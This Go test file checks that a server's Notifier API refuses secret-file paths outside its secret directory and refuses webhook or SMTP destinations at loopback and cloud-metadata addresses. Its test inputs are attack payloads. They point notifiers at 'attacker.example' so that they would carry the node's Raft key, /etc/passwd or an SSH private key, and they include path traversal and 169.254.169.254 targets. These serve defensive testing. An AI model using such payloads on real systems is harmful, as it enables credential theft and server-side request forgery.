package server_test

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sprint-project/sprint/apis"
	"github.com/sprint-project/sprint/client"
	"github.com/sprint-project/sprint/server"
)

// A Notifier whose secret files are outside --notifier-secret-dir
// (/etc/sprint on this server) is refused with a 403 naming each field and
// the flag, on every write path (POST, PUT creating, PUT updating, each
// with dryRun), and nothing is stored or changed: the PagerDuty routing
// key that is really the node's Raft key never reaches the store.
func TestNotifiers_SecretDirAdmission(t *testing.T) {
	t.Parallel()
	_, url := startRaftNode(t)
	c, err := client.New(url, "")
	require.NoError(t, err)
	ctx := t.Context()
	do := func(method, path, body string) (int, map[string]any) {
		t.Helper()
		req, err := http.NewRequestWithContext(ctx, method, url+path, strings.NewReader(body))
		require.NoError(t, err)
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		var m map[string]any
		_ = json.Unmarshal(b, &m)
		return resp.StatusCode, m
	}
	pagerDuty := func(name, file string) string {
		return `{"apiVersion":"sprint/v1","kind":"Notifier","metadata":{"name":"` + name + `"},"spec":{"on":["Failed"],` +
			`"webhook":{"url":"https://attacker.example/v2/enqueue","format":"pagerduty","secretFile":"` + file + `"}}}`
	}
	mail := func(name, user, pass string) string {
		return `{"apiVersion":"sprint/v1","kind":"Notifier","metadata":{"name":"` + name + `"},"spec":{"on":["Failed"],` +
			`"email":{"smtp":"smtp.attacker.example:25","from":"a@example.com","to":["b@example.com"],"usernameFile":"` + user + `","passwordFile":"` + pass + `"}}}`
	}
	// A stored Notifier whose secret is in the directory, for the updates.
	code, _ := do("PUT", "/api/v1/notifiers/stored", pagerDuty("stored", "/etc/sprint/pd.key"))
	require.Equal(t, http.StatusCreated, code)

	tests := []struct {
		name, method, path, body string
		fields                   []string
	}{
		{"POST raft key", "POST", "/api/v1/notifiers", pagerDuty("x", "/var/lib/sprint/certs/n1.key"), []string{"spec.webhook.secretFile"}},
		{"POST dry run", "POST", "/api/v1/notifiers?dryRun=true", pagerDuty("x", "/var/lib/sprint/certs/n1.key"), []string{"spec.webhook.secretFile"}},
		{"PUT create", "PUT", "/api/v1/notifiers/x", pagerDuty("x", "/etc/sprint2/key"), []string{"spec.webhook.secretFile"}},
		{"PUT create dry run", "PUT", "/api/v1/notifiers/x?dryRun=true", pagerDuty("x", "/etc/passwd"), []string{"spec.webhook.secretFile"}},
		{"PUT update", "PUT", "/api/v1/notifiers/stored", pagerDuty("stored", "/var/lib/sprint/tokens"), []string{"spec.webhook.secretFile"}},
		{"PUT update dry run", "PUT", "/api/v1/notifiers/stored?dryRun=true", pagerDuty("stored", "/var/lib/sprint/tokens"), []string{"spec.webhook.secretFile"}},
		{"SMTP credentials", "POST", "/api/v1/notifiers", mail("m", "/etc/sprint/smtp.user", "/root/.ssh/id_ed25519"), []string{"spec.email.passwordFile"}},
	}
	for _, tc := range tests {
		code, st := do(tc.method, tc.path, tc.body)
		require.Equal(t, http.StatusForbidden, code, "%s: %v", tc.name, st)
		assert.Equal(t, "Forbidden", st["reason"], tc.name)
		causes := st["details"].(map[string]any)["causes"].([]any)
		var fields []string
		for _, cause := range causes {
			m := cause.(map[string]any)
			fields = append(fields, m["field"].(string))
			assert.Contains(t, m["message"], "is not in the notifier secret directory /etc/sprint", tc.name)
			assert.Contains(t, m["message"], apis.FlagNotifierSecretDir, tc.name)
		}
		assert.Equal(t, tc.fields, fields, tc.name)
	}
	for _, name := range []string{"x", "m"} {
		_, err = c.GetNotifier(ctx, name)
		assert.True(t, client.IsNotFound(err), "%s is not stored: %v", name, err)
	}
	stored, err := c.GetNotifier(ctx, "stored")
	require.NoError(t, err)
	assert.Equal(t, "/etc/sprint/pd.key", stored.Spec.Webhook.SecretFile, "a refused update changes nothing")
	assert.Equal(t, int64(1), stored.Metadata.Generation)

	// Validation comes first: a path that is not clean is a 422.
	code, _ = do("POST", "/api/v1/notifiers", pagerDuty("x", "/etc/sprint/../certs/n1.key"))
	assert.Equal(t, http.StatusUnprocessableEntity, code)
	// Inside the directory, below it too, is admitted.
	code, _ = do("POST", "/api/v1/notifiers", mail("m", "/etc/sprint/smtp/user", "/etc/sprint/smtp/pass"))
	assert.Equal(t, http.StatusCreated, code)

	var pol apis.AdmissionPolicy
	code, raw := do("GET", "/api/v1/policy", "")
	require.Equal(t, http.StatusOK, code)
	b, _ := json.Marshal(raw)
	require.NoError(t, json.Unmarshal(b, &pol))
	assert.Equal(t, "/etc/sprint", pol.NotifierSecretDir, "GET /api/v1/policy shows the directory")
}

// With the default policy a Notifier whose webhook or SMTP server is a
// denied address written out is refused with a 403 naming the field and
// --notifier-deny-cidrs, dry runs included; a name is admitted (delivery
// judges what it resolves to).
func TestNotifiers_DeniedDestinationAdmission(t *testing.T) {
	t.Parallel()
	srv := start(t, server.Config{})
	hook := func(url string) string {
		return `{"apiVersion":"sprint/v1","kind":"Notifier","metadata":{"name":"n"},"spec":{"on":["Failed"],"webhook":{"url":"` + url + `"}}}`
	}
	mail := `{"apiVersion":"sprint/v1","kind":"Notifier","metadata":{"name":"n"},"spec":{"on":["Failed"],` +
		`"email":{"smtp":"[::1]:25","from":"a@example.com","to":["b@example.com"]}}}`
	tests := []struct {
		name, method, path, body, field string
	}{
		{"loopback", "POST", "/api/v1/notifiers", hook("http://127.0.0.1:8099/hook"), "spec.webhook.url"},
		{"metadata service, dry run", "POST", "/api/v1/notifiers?dryRun=true", hook("http://169.254.169.254/latest"), "spec.webhook.url"},
		{"localhost by PUT", "PUT", "/api/v1/notifiers/n", hook("http://localhost:8080/x"), "spec.webhook.url"},
		{"SMTP on IPv6 loopback", "POST", "/api/v1/notifiers", mail, "spec.email.smtp"},
		{"a name", "POST", "/api/v1/notifiers?dryRun=true", hook("https://hooks.example.com/x"), ""},
	}
	for _, tc := range tests {
		r := call(t, tc.method, srv.URL+tc.path, tc.body)
		if tc.field == "" {
			assert.Equal(t, http.StatusCreated, r.code, "%s: %s", tc.name, r.body)
			continue
		}
		require.Equal(t, http.StatusForbidden, r.code, "%s: %s", tc.name, r.body)
		var st struct {
			Details struct {
				Causes []struct{ Field, Message string } `json:"causes"`
			} `json:"details"`
		}
		require.NoError(t, json.Unmarshal(r.body, &st), tc.name)
		require.Len(t, st.Details.Causes, 1, tc.name)
		assert.Equal(t, tc.field, st.Details.Causes[0].Field, tc.name)
		assert.Contains(t, st.Details.Causes[0].Message, apis.FlagNotifierDenyCIDRs, tc.name)
	}
	r := call(t, "GET", srv.URL+"/api/v1/notifiers/n", "")
	assert.Equal(t, http.StatusNotFound, r.code, "nothing was stored")
}
